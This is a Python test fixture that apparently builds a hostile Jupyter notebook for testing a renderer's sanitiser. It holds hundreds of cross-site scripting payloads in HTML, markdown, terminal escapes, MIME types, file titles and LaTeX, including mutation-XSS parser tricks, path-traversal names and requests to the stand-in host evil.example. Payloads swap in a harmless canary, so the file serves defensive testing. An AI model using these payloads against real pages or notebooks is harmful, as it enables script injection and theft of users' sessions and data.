"""What somebody might put into a notebook to do harm to who reads it.

Every script in it calls `steal()`, which `hostile_notebook` replaces by a canary that
works wherever it runs; every address is on evil.example, which it replaces by a server
that remembers who asked.
"""

from __future__ import annotations

import base64

__all__ = [
    "CANARY",
    "FORMULAS",
    "HOSTILE",
    "MARKDOWN",
    "MIME_TYPES",
    "TERMINAL",
    "TITLES",
    "armed",
    "hostile_notebook",
]

# Without quotes, spaces and angle brackets, so that it fits in any snippet: it marks the window
# that it runs in, and tells the page around a frame, whatever the frame's origin.
CANARY = "[self.stolen=1,parent.postMessage(/stolen/.source,/[*]/.source[1])]"
_STEAL = "steal()"
_ELSEWHERE = "evil.example"
_PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)


def _packed(markup: str) -> str:
    return base64.b64encode(markup.replace(_STEAL, CANARY).encode()).decode()


HOSTILE = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=steal()>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=steal()><script>steal()</script></svg>",
    "<svg/onload=steal()>",
    "<a href='javascript:steal()'>x</a>",
    "<a href='java\nscript:steal()'>x</a>",
    "<a href=' &#106;avascript:steal()'>x</a>",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(https://evil.example)' onclick=steal()>x</div>",
    "<form action=https://evil.example><input name=q><button>Log in</button></form>",
    "<object data=x.swf></object><embed src=x>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<textarea></div><script>steal()</script>",
    "<!--<img src='--><img src=x onerror=steal()//'>",
    "<![CDATA[<script>steal()</script>]]>",
    "<p/onclick=steal()>x",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<table background=https://evil.example><td colspan=9999999 onclick=steal()>x",
    "<link rel=stylesheet href=//evil.example>",
    "</div></section></article><script>steal()</script>",
    "<b" + " a" * 5000,
    # Markup that one parser reads as text and another, or the same a second time, as elements.
    '<svg></p><style><a id="</style><img src=1 onerror=steal()>">',
    "<math></p><style><!--</style><img src/onerror=steal()>",
    "<svg><desc><noscript></desc></svg></noscript><img src=x onerror=steal()>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=steal()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "<svg><foreignObject><iframe onload=steal()></iframe></foreignObject></svg>",
    "<template><script>steal()</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=steal()></template></div>",
    "<select><template><style><a title='</style><img src onerror=steal()>'></select>",
    "<xmp><p title='</xmp><img src=x onerror=steal()>'>",
    "<plaintext><script>steal()</script>",
    "<noembed><p title='</noembed><img src=x onerror=steal()>'>",
    "<title><a title='</title><img src=x onerror=steal()>'>",
    "<!--><img src=x onerror=steal()>-->",
    "<!--!><img src=x onerror=steal()>",
    "<!-- --!><img src=x onerror=steal()>",
    "<!doctype x[<!entity y '<img src=x onerror=steal()>'>]>&y;",
    "<?xml version='1.0'?><?php ><img src=x onerror=steal()> ?>",
    "</ <img src=x onerror=steal()>",
    "<%<img src=x onerror=steal()>%>",
    "<table><td><table><tr><a><tr><img src=x onerror=steal()>",
    "<b <script>steal()</script>>x</b>",
    "&lt;script&gt;steal()&lt;/script&gt; &amp;lt;img src=x onerror=steal()&amp;gt;",
    # Attributes: where a value ends, and what it is.
    "<img alt='x\"onerror=steal()//' src='data:image/png;base64,iVBORw0KGgo='>",
    '<img alt="`onerror=steal()" src=`x`onerror=steal()>',
    "<img src='data:image/png;base64,\" onerror=steal() x=\"'>",
    "<img src='data:image/png\" onerror=steal();base64,iVBORw0KGgo='>",
    f"<img src='data:text/html;base64,{_packed('<script>steal()</script>')}'>",
    "<img srcset='https://evil.example/pixel.png 1x' src='' lowsrc='https://evil.example/'>",
    "<picture><source srcset='https://evil.example/pixel.png'><img src=x></picture>",
    "<a href='https://x.example/\" onclick=steal() x=\"'>x</a>",
    "<a href='java&Tab;script&colon;steal()'>x</a>",
    "<a href='\x01javascript:steal()'>x</a>",
    "<a href='\u00a0java\u00adscript:steal()'>x</a>",
    "<a href='vbscript:steal()'>x</a><a href='blob:https://x/1'>x</a><a href='//x.example'>x</a>",
    "<a href='https:javascript:steal()' ping='https://evil.example' target=_top>x</a>",
    "<a href=x href='javascript:steal()' xlink:href='javascript:steal()'>x</a>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=steal()>'/></svg>",
    "<svg><animate attributeName=href values='javascript:steal()' begin=0s onbegin=steal()></svg>",
    "<td colspan='1\" onmouseover=\"steal()' rowspan='1 onclick=steal()'>x",
    "<button formaction='javascript:steal()' autofocus onfocus=steal()>x</button>",
    "<input autofocus onfocus=steal()><details open ontoggle=steal()><summary>x</details>",
    "<video><source onerror=steal()></video><audio src=x onerror=steal()></audio>",
    "<marquee onstart=steal()>x</marquee><body onload=steal()><html onclick=steal()>",
    "<div id=jupyterapp name=jupyterapp><a id=x name=y>x</a></div>",
    "<div class='jp-Notebook lm-Widget' contenteditable tabindex=0 accesskey=x draggable>x</div>",
    "<div style=\"position:fixed;inset:0;z-index:9999;background:url('https://evil.example')\">x</div>",
    "<a href='https://ok.example'><div><p>x</a></div><script>steal()</script>",
    "<ul>" * 400 + "<script>steal()</script>",
    # A picture's type that ends its attribute.
    """<img src='data:x" onerror="steal()//;base64,AG5vbmU='>""",
    """<img src='data:image/png" onerror="steal();base64,iVBORw0KGgo='>""",
    """<img src="data:image/svg+xml' onerror='steal()//;base64,AG5vbmU=">""",
    """<img src='data:x\x00" onerror="steal()//;base64,AG5vbmU='>""",
    """<img src='data:&quot; onerror=&quot;steal()//;base64,AG5vbmU='>""",
    """<img src='data:image/png;x=" onerror="steal()//;base64,AG5vbmU='>""",
    """<img src="data:image/png;base64,iVBORw0KGgo=" alt='"><script>steal()</script>'>""",
    f"<img src='data:image/svg+xml;base64,{_packed('<svg onload=steal()></svg>')}'>",
    # Attributes: quotes inside of quotes, none, and of the wrong kind.
    """<a title="'><img src=x onerror=steal()>'">x</a>""",
    """<a title='"><img src=x onerror=steal()>"'>x</a>""",
    """<a title="&quot;><img src=x onerror=steal()>">x</a>""",
    """<p title="a" "onclick="steal()" "><img src=x onerror=steal()>">x</p>""",
    """<p title=`"><img src=x onerror=steal()>`>x</p>""",
    """<p title=a"><img src=x onerror=steal()>x</p>""",
    "<p title='\x00' onclick='steal()'>x</p>",
    "<p title=x/onclick=steal()>x</p>",
    "<img src=x\x0bonerror=steal()>",
    "<img\x0csrc=x\x0conerror=steal()>",
    "<img src=x onerror\n=\nsteal()>",
    "<img src=x OnErRoR=steal()>",
    "<img src=x on\x00error=steal()>",
    "<img/src/onerror=steal()>",
    "<img ='><img src=x onerror=steal()>'>",
    "<img src=x x=`onerror=steal()` onerror=steal()>",
    '<th abbr=\'" onmouseover=steal() x="\' scope="\'onclick=steal()">x',
    "<ol start='1\" onclick=steal()' type='a\" onclick=steal()'><li>x</ol>",
    "<p dir='ltr\" onclick=steal()' lang='en\" onclick=steal()'>x</p>",
    "<time datetime='\"><script>steal()</script>'>x</time>",
    "<td style='text-align:right\" onclick=\"steal()'>x</td>",
    "<td style='text-align:right;background:url(https://evil.example/cell)'>x</td>",
    "<details open='' ontoggle=steal()><summary onclick=steal()>x</summary>y</details>",
    # Tags that end late, never, or twice.
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script>steal()",
    "<script/x>steal()</script/x>",
    "<script\x00>steal()</script>",
    "<script >steal()</script\n>",
    "<img src=x onerror=steal()",
    "<<img src=x onerror=steal()>>",
    "< img src=x onerror=steal()>",
    "<\x00img src=x onerror=steal()>",
    "</img src=x onerror=steal()>",
    "<img src=x onerror=steal()//<p>x</p>",
    "<a href='https://ok.example/?<script>steal()</script>'>x</a>",
    "<p><script>steal()</p></script>",
    "</pre></code></p></section></body></html><script>steal()</script>",
    "<body><head><script>steal()</script></head></body>",
    "<head><base href='https://evil.example/' target=_top></head>",
    "<html manifest='https://evil.example/manifest'><body background='https://evil.example/body'>",
    "<frameset onload=steal()><frame src='javascript:steal()'></frameset>",
    "<isindex type=image src=x onerror=steal() action='javascript:steal()'>",
    "<keygen autofocus onfocus=steal()><textarea autofocus onfocus=steal()></textarea>",
    "<bgsound src='javascript:steal()'><layer src='https://evil.example/layer'></layer>",
    "<dialog open onclose=steal()><form method=dialog><button>x</button></form></dialog>",
    "<iframe src='javascript:steal()'></iframe>",
    "<iframe src='https://evil.example/frame'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=steal()&gt;'></iframe>",
    f"<iframe src='data:text/html;base64,{_packed('<script>steal()</script>')}'></iframe>",
    "<iframe srcdoc=\"<img src=x onerror=steal()>\" sandbox='allow-scripts'></iframe>",
    "<fencedframe src='https://evil.example/'></fencedframe><portal src='https://evil.example/'>",
    f"<object data='data:text/html;base64,{_packed('<script>steal()</script>')}'></object>",
    "<embed src='data:text/html,<script>steal()</script>' type=text/html>",
    "<applet code=x.class codebase='https://evil.example/'></applet>",
    "<script type=module>steal()</script><script async>steal()</script>",
    "<script src='data:text/javascript,steal()'></script>",
    "<script>/*</script><img src=x onerror=steal()>*/</script>",
    "<script><!--<script></script>--></script><img src=x onerror=steal()>",
    # What fetches.
    "<link rel=preload as=image href='https://evil.example/preload'>",
    "<link rel=dns-prefetch href='//evil.example'><link rel=prefetch href='//evil.example/p'>",
    "<link rel=modulepreload href='https://evil.example/m.js'>",
    "<video src='https://evil.example/v' poster='https://evil.example/poster' autoplay></video>",
    "<audio src='https://evil.example/a' autoplay></audio><track src='https://evil.example/t'>",
    "<input type=image src='https://evil.example/input'>",
    "<img src='' style='background-image:url(https://evil.example/bg)'>",
    "<img src='//evil.example/relative'><img src='\\\\evil.example/backslash'>",
    "<img src='http:https://evil.example/scheme'><img src=' https://evil.example/space'>",
    "<img loading=lazy src='https://evil.example/lazy' importance=high>",
    "<table background='https://evil.example/t'><tr background='//evil.example/r'><td>x</table>",
    "<svg><image href='https://evil.example/i' xlink:href='https://evil.example/i2'/></svg>",
    "<svg><feImage href='https://evil.example/fe'/><use href='https://evil.example/u#x'/></svg>",
    "<svg><style>@import url(https://evil.example/svg.css);</style></svg>",
    # Styles.
    "<style>*{background:url(https://evil.example/star)}</style>",
    "<style>body{display:none}</style><style>@font-face{src:url(https://evil.example/f)}</style>",
    "<p style='width:expression(steal())'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x</p>",
    "<p style='behavior:url(https://evil.example/x.htc)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/escaped)'>x</p>",
    "<p style=\"--x:url('https://evil.example/var');background:var(--x)\">x</p>",
    "<p style='list-style:url(https://evil.example/list);cursor:url(https://evil.example/c),auto'>",
    "<style></style/><img src=x onerror=steal()></style>",
    "<style>a{content:'</style><img src=x onerror=steal()>'}</style>",
    # SVG.
    "<svg><script>steal()</script></svg>",
    "<svg><script href='data:text/javascript,steal()'/></svg>",
    "<svg><script>&#115;teal()</script></svg>",
    "<svg><set attributeName=onload to=steal() /></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values='javascript:steal()'/><text y=9>x</text></a></svg>",
    "<svg><foreignObject><body onload=steal()></foreignObject></svg>",
    "<svg><foreignObject><img src=x onerror=steal()></foreignObject></svg>",
    "<svg><title><img src=x onerror=steal()></title></svg>",
    "<svg><desc><img src=x onerror=steal()></desc></svg>",
    "<svg><p><img src=x onerror=steal()></p></svg>",
    "<svg><![CDATA[><img src=x onerror=steal()>]]></svg>",
    "<svg><style><![CDATA[</style><img src=x onerror=steal()>]]></style></svg>",
    "<svg><handler xmlns:ev='x' ev:event=load>steal()</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'/>",
    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x '<script>steal()</script>'>]>"
    "<svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    "<?xml-stylesheet href='javascript:steal()'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    # MathML and its borders to HTML.
    "<math><mtext><img src=x onerror=steal()></mtext></math>",
    "<math><mi><script>steal()</script></mi></math>",
    "<math><mi xlink:href='javascript:steal()'>x</mi></math>",
    "<math href='javascript:steal()'><mi>x</mi></math>",
    "<math><maction xlink:href='javascript:steal()'>x<mtext>y</mtext></maction>",
    "<math><semantics><annotation-xml encoding='application/xhtml+xml'>"
    "<img src=x onerror=steal()></annotation-xml></semantics></math>",
    "<math><annotation encoding=text/html><img src=x onerror=steal()></annotation></math>",
    "<math><mglyph src='//evil.example/glyph'/><malignmark><img src=x onerror=steal()></math>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=steal() src>'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=steal()>",
    "<math><mi><table><mi><svg><style><img src=x onerror=steal()></style></svg></table></math>",
    "<math><mtext></p><img src=x onerror=steal()></mtext></math>",
    "<math><mstyle mathbackground='url(//evil.example/m)' onclick=steal()><mi>x</mi></mstyle>",
    "<math display='block\" onclick=\"steal()'><mo fence='\"><script>steal()</script>'>x</mo>",
    "<math><mspace width='1em\" onmouseover=\"steal()'/></math>",
    "<math><mn>&lt;img src=x onerror=steal()&gt;</mn><ms lquote='\"><script>'>x</ms></math>",
    "<math><img src=x onerror=steal()></math>",
    "<math>" * 200 + "<mtext><img src=x onerror=steal()>",
    # Trees that a parser builds otherwise than they are written.
    "<table><img src=x onerror=steal()><tr><td>x</table>",
    "<table><style><!--</style><img src=x onerror=steal()>--></table>",
    "<p><table><p title='<img src=x onerror=steal()>'></table>",
    "<a><table><a><img src=x onerror=steal()></table>",
    "<form><form><img src=x onerror=steal()></form>",
    "<b><p></b><img src=x onerror=steal()></p>",
    "<select><option><img src=x onerror=steal()></select>",
    "<select><script>steal()</script></select>",
    "<noscript><style></noscript><img src=x onerror=steal()>",
    "<noscript><!--</noscript><img src=x onerror=steal()>-->",
    "<textarea><!--</textarea><img src=x onerror=steal()>-->",
    "<title></title><img src=x onerror=steal()>",
    "<template><style></template><img src=x onerror=steal()></style>",
    "<div><template shadowrootmode=closed><script>steal()</script></template></div>",
    "<svg><template><p><img src=x onerror=steal()></template></svg>",
    "<x-element><template><slot onslotchange=steal()></slot></template></x-element>",
    "<image src=x onerror=steal()>",
    "<p is='x' slot='y' part='z' nonce='n' itemprop='i'>x</p>",
    "<!-- > --><img src=x onerror=steal()>",
    "<!---><img src=x onerror=steal()>-->",
    "<!--x--!><img src=x onerror=steal()>-->",
    "<!--<!--x-->--><img src=x onerror=steal()>",
    "<!x><img src=x onerror=steal()>",
    "<?x ?><img src=x onerror=steal()>",
    # Entities, and what is one after the first reading.
    "&lt;img src=x onerror=steal()&gt;",
    "&amp;lt;script&amp;gt;steal()&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=steal()&#62;&#x3c;script&#x3e;steal()&#x3c;/script&#x3e;",
    "&LT;script&GT;steal()&LT;/script&GT;",
    "&lt<img src=x onerror=steal()>",
    "&#0;&#x110000;&#xd800;&#13;&#x80;" + "&#" + "9" * 5000 + ";<img src=x onerror=steal()>",
    "<a href='&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3asteal()'>x</a>",
    "<a href='java&NewLine;script&colon;steal()'>x</a>",
    "<a href='javascript&#58;steal()'>x</a><a href='javascript&amp;colon;steal()'>x</a>",
    # Addresses.
    "<a href='JaVaScRiPt:steal()'>x</a><a href='javascript://%0asteal()'>x</a>",
    "<a href='\u2028javascript:steal()'>x</a><a href='\ufeffjavascript:steal()'>x</a>",
    "<a href='view-source:javascript:steal()'>x</a><a href='feed:javascript:steal()'>x</a>",
    "<a href='data:text/html;charset=utf-7,+ADw-script+AD4-steal()'>x</a>",
    "<a href='filesystem:https://x/temporary/x'>x</a><a href='intent://x#Intent;end'>x</a>",
    "<a href='https://[::1' onclick=steal()>x</a><a href='http://' onclick=steal()>x</a>",
    "<a href='https://x.example' target='_parent' rel=opener ping='//evil.example/ping'>x</a>",
    "<map name=m><area shape=default href='javascript:steal()'></map><img usemap='#m' src=x>",
    # Characters that turn text round or hide it.
    "\u202e<img src=x onerror=steal()>\u202c",
    "\u2066<script>steal()</script>\u2069",
    "<img\u200bsrc=x onerror=steal()>",
    "\uff1cscript\uff1esteal()\uff1c/script\uff1e",
    "<\u017fcript>steal()</\u017fcript>",
    "\u0130<script>steal()</script\u0130><img src=x onerror=steal()>",
    "\x00<script>steal()</script>\x00",
    "\ufeff<script>steal()</script>",
    # Names that a page's own scripts look up.
    "<form id=document><input name=getElementById></form><img name=cookie><a id=location>x</a>",
    "<div id=stolen name=stolen class=je-shared></div><meta name=viewport content=width=1>",
]

# Markdown: links, pictures, references, and HTML of all kinds in it.
MARKDOWN = [
    "[x](javascript:steal())",
    "[x](<javascript:steal()>)",
    "[x]( java\nscript:steal())",
    "[x](JAVASCRIPT:steal())",
    "[x](&#106;avascript:steal())",
    "[x](java&Tab;script:steal())",
    "[x](data:text/html,<script>steal()</script>)",
    f"[x](data:text/html;base64,{_packed('<script>steal()</script>')})",
    "[x](vbscript:steal())",
    '[x](https://x.example "title\\" onclick=steal()")',
    "[x](https://x.example '\"><img src=x onerror=steal()>')",
    '[x](https://x.example"onclick="steal())',
    "[<img src=x onerror=steal()>](https://x.example)",
    "[x][r]\n\n[r]: javascript:steal()",
    '[x][r2]\n\n[r2]: https://x.example "\\"><img src=x onerror=steal()>"',
    "[x][r3]\n\n[r3]: <data:text/html,<script>steal()</script>>",
    "<javascript:steal()>",
    '<https://x.example/"onclick="steal()>',
    "<https://x.example/<script>steal()</script>>",
    "![x](https://evil.example/picture)",
    "![x](//evil.example/picture)",
    '![a](data:x"onerror="steal()//;base64,AG5vbmU=)',
    '![a](<data:image/png" onerror="steal();base64,iVBORw0KGgo=>)',
    '![" onerror="steal()](https://evil.example/alt)',
    f'![" onerror="steal()](data:image/png;base64,{_PNG})',
    "![x][p]\n\n[p]: https://evil.example/reference",
    "![x](javascript:steal())",
    '![x](attachment:a.png "\\" onerror=steal()")',
    '![x](attachment:"onerror="steal())',
    "![x](attachment:../../x)![x](attachment:__proto__)![x](attachment:evil.png)",
    "![x](attachment:evil.svg)![x](attachment:type.png)",
    "[![x](javascript:steal())](javascript:steal())",
    "`<img src=x onerror=steal()>`",
    "``` <script>steal()</script>\n<img src=x onerror=steal()>\n```",
    '``` "onclick="steal()\nx\n```',
    "```html\n</code></pre><script>steal()</script>\n```",
    "    </code></pre><script>steal()</script>",
    "<div>\n\n*x*\n\n<script>steal()</script>\n\n</div>",
    "*<img src=x* onerror=steal()>",
    "<b *x*><img src=x onerror=steal()>",
    "| a | <img src=x onerror=steal()> |\n|---|---|\n| <script>steal()</script> | `|<b` |",
    '| a |\n|:-" onclick=steal():|\n| x |',
    "# <script>steal()</script>\n\n<img src=x onerror=steal()>\n===",
    "# [x](javascript:steal()) {onclick=steal()}",
    "- [ ] <input onfocus=steal() autofocus>",
    "> <script>\n> steal()\n> </script>",
    "\\<img src=x onerror=steal()>",
    "\\![x](javascript:steal())",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "x\x00<script>steal()</script>\ufffd",
    "$x$<script>steal()</script>$$<img src=x onerror=steal()>$$",
    '$$ x $$ ("><script>steal()</script>)',
    "\\begin{equation}<img src=x onerror=steal()>\\end{equation}",
    "~~<s onclick=steal()>~~",
    "[^1]\n\n[^1]: <script>steal()</script>",
    "{{constructor.constructor('steal()')()}}",
    "<!-- [x](javascript:steal()) --><!--><img src=x onerror=steal()>-->",
    "[x]: x '<script>steal()</script>'\n\n[x]",
]

# What a program writes to a terminal.
TERMINAL = [
    "\x1b[31m<img src=x onerror=steal()>\x1b[0m",
    "\x1b]8;;javascript:steal()\x07x\x1b]8;;\x07",
    '\x1b]8;;https://evil.example/"onclick="steal()\x1b\\x\x1b]8;;\x1b\\',
    "\x1b]0;<script>steal()</script>\x07",
    "\x1b]52;c;PHNjcmlwdD4=\x07<script>steal()</script>",
    '\x1b[38;5;"onclick="steal()m<img src=x onerror=steal()>',
    '\x1b[38;2;1;2;3"><script>steal()</script>m',
    "\x1b<script>\x1b[0msteal()\x1b[0m</script>",
    "<scr\x1b[1mipt>steal()</scr\x1b[1mipt>",
    "<im\x08g src=x onerror=steal()>\r<script>steal()</script>",
    "\x9b31m<img src=x onerror=steal()>\x9b0m",
    'javascript:steal() https://x.example/"onclick="steal() data:text/html,<script>steal()',
]

# Types of outputs and attachments.
MIME_TYPES = [
    'image/png" onerror="steal()',
    "image/png' onerror='steal()",
    'image/png;base64,x" onerror=steal() x="',
    "image/svg+xml><script>steal()</script>",
    "text/html",
    "text/html;charset=utf-7",
    "IMAGE/PNG",
    "image/png\x00",
    "image/x",
    "application/javascript",
    "text/javascript",
    "application/xhtml+xml",
    "application/vnd.jupyter.widget-view+json",
    "application/json",
    "application/pdf",
    "text/vnd.mermaid",
    "application/geo+json",
    "application/vdom.v1+json",
    "<img src=x onerror=steal()>",
]

# Titles of notebooks, which become names of files too.
TITLES = [
    "<img src=x onerror=steal()>",
    '"><script>steal()</script>',
    "</title><script>steal()</script>",
    "\u202egpj.exe",
    "\u2066rain\u2069 \u200b\u061c\ufeff",
    "rain\x00\x1b[31m\x1b]8;;https://evil.example\x07\x9b",
    "\ud800 alone",
    "../../.je-kernel-sharing/shares.json",
    ".je-kernel-sharing",
    ".hidden",
    "con",
    "NUL.ipynb",
    "a\nb\u2028c",
    "x" * 5000,
    "\U0001f327" * 400,
    "   ",
]

# What may be written between dollar signs.
FORMULAS = [
    r"$\href{javascript:steal()}{x}$",
    r"$\href{data:text/html,<script>steal()</script>}{x}$",
    r"$\style{background:url(https://evil.example/pixel.png)}{x}$",
    r"$\class{jp-Notebook}{\cssId{jupyterapp}{x}}$",
    r"$\require{html}\htmlData{x=y}{x}\data{onclick=steal()}{x}$",
    r"$\mmlToken{mtext}[onclick=steal()]{x}$",
    r"$\unicode{x3c}script>steal()$",
    r"$\text{<img src=x onerror=steal()>}$",
    r"$\begin{x}\frac{1}{$",
    r"$\def\x{\x\x}\x$",
    r"$\includegraphics{https://evil.example/pixel.png}$",
]


def armed(markup: str, elsewhere: str = "http://evil.example") -> str:
    """Put the canary into a snippet, and a server that can be reached.

    Parameters
    ----------
    markup
        The snippet.
    elsewhere
        The server's address, without a slash at the end.
    """
    host = elsewhere.partition("//")[2]
    markup = markup.replace(_STEAL, CANARY)
    return markup.replace(f"https://{_ELSEWHERE}", elsewhere).replace(_ELSEWHERE, host)


def hostile_notebook(elsewhere: str = "http://evil.example") -> dict[str, object]:
    """Return a notebook that has everything hostile everywhere that it has a place for it."""
    markup = [armed(it, elsewhere) for it in HOSTILE]
    text = [armed(it, elsewhere) for it in [*MARKDOWN, *FORMULAS]]
    terminal = [armed(it, elsewhere) for it in TERMINAL]
    types = [armed(it, elsewhere) for it in MIME_TYPES]
    shown = [
        *({"text/html": it, "text/plain": it} for it in markup),
        *({"image/svg+xml": it} for it in markup if "<svg" in it),
        *({"text/markdown": it} for it in (*text, *markup)),
        *({"text/latex": it} for it in (*text, *markup[:40])),
        *({"text/plain": it} for it in (*terminal, *markup[:40])),
        *({kind: f"<script>{CANARY}</script>"} for kind in types),
        *({kind: _PNG, "text/plain": markup[2]} for kind in types),
        {"image/png": f'{_PNG}" onerror="{CANARY}'},
    ]
    outputs: list[dict[str, object]] = [
        {"output_type": "display_data", "metadata": {}, "data": data} for data in shown
    ]
    for it in (*terminal, *markup[:40]):
        outputs += (
            {"output_type": "stream", "name": "stdout", "text": it},
            {"output_type": "error", "ename": it, "evalue": it, "traceback": [it]},
            {"output_type": "error", "ename": it, "evalue": it, "traceback": []},
        )
    attachments = {
        "evil.png": {"image/png": f'{_PNG}" onerror="{CANARY}', "text/html": markup[0]},
        "evil.svg": {"image/svg+xml": base64.b64encode(markup[4].encode()).decode()},
        "type.png": dict.fromkeys(types, _PNG),
        f'"onerror="{CANARY}': {"image/png": _PNG},
    }
    cells: list[dict[str, object]] = [
        {"cell_type": "markdown", "metadata": {}, "source": it, "attachments": attachments}
        for it in (*text, *markup)
    ]
    cells.append({"cell_type": "raw", "metadata": {}, "source": "\n".join(markup)})
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1}
    cells.append({**code, "source": "\n".join(markup), "outputs": outputs})
    # A slow machine shows the plain text.
    last = {"text/html": "<table><tr><td>the last output", "text/plain": "the last output"}
    end = {"output_type": "display_data", "metadata": {}, "data": last}
    cells.append({**code, "source": "the_end()", "outputs": [end]})
    numbered = [{"id": f"cell-{number}", **cell} for number, cell in enumerate(cells)]
    language = {"name": markup[0], "pygments_lexer": markup[0]}
    metadata = {"title": armed(TITLES[1], elsewhere), "language_info": language}
    return {"cells": numbered, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
